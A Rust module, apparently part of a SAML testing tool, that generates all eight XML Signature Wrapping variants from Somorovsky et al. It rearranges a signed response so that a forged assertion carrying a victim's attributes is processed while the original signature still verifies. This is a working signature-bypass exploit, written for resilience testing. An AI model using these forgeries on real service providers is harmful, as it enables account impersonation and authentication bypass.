//! Signature wrapping: the eight forms of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
//! (USENIX Security 2012). The signature stays valid; what is read first is forged.

use super::{
    behaviour::Behaviour,
    citizen::Citizen,
    scheme::Scheme,
    xml::{self, DS, SAML},
};
use anyhow::{Context, Result};
use std::ops::Range;

/// `signed` with the wrapping that `behaviour` names; unchanged for other behaviours.
///
/// # Errors
/// When `signed` is not a response as this crate writes it.
pub fn wrap(signed: &str, behaviour: Behaviour, scheme: Scheme, citizen: &Citizen) -> Result<String> {
    let wrapped = match behaviour {
        Behaviour::Wrapped1 => ResponseParts::of(signed, scheme, citizen)?.inside_signature(),
        Behaviour::Wrapped2 => ResponseParts::of(signed, scheme, citizen)?.beside_signature(),
        Behaviour::Wrapped3 => {
            Parts::of(signed, scheme, citizen)?.with(|p| format!("{}{}", p.forged, p.whole))
        }
        Behaviour::Wrapped4 => Parts::of(signed, scheme, citizen)?.with(|p| before_end(&p.forged, &p.whole)),
        Behaviour::Wrapped5 => {
            Parts::of(signed, scheme, citizen)?.with(|p| after_issuer(&p.forged, &p.signature) + &p.bare)
        }
        Behaviour::Wrapped6 => Parts::of(signed, scheme, citizen)?
            .with(|p| after_issuer(&p.forged, &before_end(&p.signature, &p.bare))),
        Behaviour::Wrapped7 => Parts::of(signed, scheme, citizen)?.in_extensions(),
        Behaviour::Wrapped8 => Parts::of(signed, scheme, citizen)?.with(|p| {
            let object = format!(r#"<ds:Object xmlns:ds="{DS}">{}</ds:Object>"#, p.bare);
            after_issuer(&p.forged_same_id, &before_end(&p.signature, &object))
        }),
        _ => signed.to_owned(),
    };
    Ok(wrapped)
}

/// A response whose assertion is signed, taken apart.
struct Parts {
    before: String,
    after: String,
    whole: String,
    bare: String,
    signature: String,
    forged: String,
    forged_same_id: String,
}

impl Parts {
    fn of(signed: &str, scheme: Scheme, citizen: &Citizen) -> Result<Self> {
        let (assertion, signature) = ranges(signed)?;
        let signature = signature.context("the assertion is not signed")?;
        let bare =
            format!("{}{}", &signed[assertion.start..signature.start], &signed[signature.end..assertion.end]);
        let forged_same_id = forge(&bare, scheme, citizen);
        Ok(Self {
            before: signed[..assertion.start].to_owned(),
            after: signed[assertion.end..].to_owned(),
            whole: signed[assertion].to_owned(),
            signature: signed[signature].to_owned(),
            forged: forged_same_id.replacen(" ID=\"_", " ID=\"_f", 1),
            forged_same_id,
            bare,
        })
    }

    fn with(&self, middle: impl Fn(&Self) -> String) -> String {
        format!("{}{}{}", self.before, middle(self), self.after)
    }

    fn in_extensions(&self) -> String {
        let extensions =
            format!("<samlp:Extensions>{}</samlp:Extensions><samlp:Status>", self.forged_same_id);
        self.with(|p| p.whole.clone()).replacen("<samlp:Status>", &extensions, 1)
    }
}

/// A response that is signed as a whole, taken apart.
struct ResponseParts {
    bare: String,
    signature: String,
    forged: String,
}

impl ResponseParts {
    fn of(signed: &str, scheme: Scheme, citizen: &Citizen) -> Result<Self> {
        let signature = root_signature(signed)?;
        let bare = format!("{}{}", &signed[..signature.start], &signed[signature.end..]);
        let forged = forge(&bare, scheme, citizen).replace(" ID=\"_", " ID=\"_f");
        Ok(Self { signature: signed[signature].to_owned(), forged, bare })
    }

    fn inside_signature(&self) -> String {
        let object = format!(r#"<ds:Object xmlns:ds="{DS}">{}</ds:Object>"#, self.bare);
        after_issuer(&self.forged, &before_end(&self.signature, &object))
    }

    fn beside_signature(&self) -> String {
        after_issuer(&self.forged, &format!("{}{}", self.bare, self.signature))
    }
}

/// Where the assertion and its signature are.
fn ranges(signed: &str) -> Result<(Range<usize>, Option<Range<usize>>)> {
    let document = xml::parse(signed)?;
    let assertion = xml::child(document.root_element(), SAML, "Assertion").context("no assertion")?;
    Ok((assertion.range(), xml::child(assertion, DS, "Signature").map(|s| s.range())))
}

fn root_signature(signed: &str) -> Result<Range<usize>> {
    let document = xml::parse(signed)?;
    let signature =
        xml::child(document.root_element(), DS, "Signature").context("the response is not signed")?;
    Ok(signature.range())
}

/// The same text about the victim.
fn forge(text: &str, scheme: Scheme, citizen: &Citizen) -> String {
    scheme.attests().iter().fold(text.to_owned(), |text, name| {
        let value =
            |c: &Citizen| format!(">{}</saml:AttributeValue>", scheme.attribute(c, name).unwrap_or_default());
        text.replace(&value(citizen), &value(Citizen::victim()))
    })
}

fn after_issuer(element: &str, insert: &str) -> String {
    element.replacen("</saml:Issuer>", &format!("</saml:Issuer>{insert}"), 1)
}

fn before_end(element: &str, insert: &str) -> String {
    let end = element.rfind("</").unwrap_or(element.len());
    format!("{}{insert}{}", &element[..end], &element[end..])
}
